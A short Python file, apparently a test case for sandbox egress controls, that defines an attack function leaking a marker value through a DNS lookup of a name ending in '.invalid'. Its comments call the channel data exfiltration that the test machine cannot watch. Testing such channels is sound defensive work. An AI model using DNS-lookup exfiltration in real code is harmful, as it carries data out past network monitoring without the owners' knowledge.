# Resolves a name, which would carry data out in the question.
# proof: outside
# control: none, because the resolver of a test machine cannot be watched
import socket


def attack(arg):
    socket.getaddrinfo(arg["marker"] + ".invalid", 80)
    return True
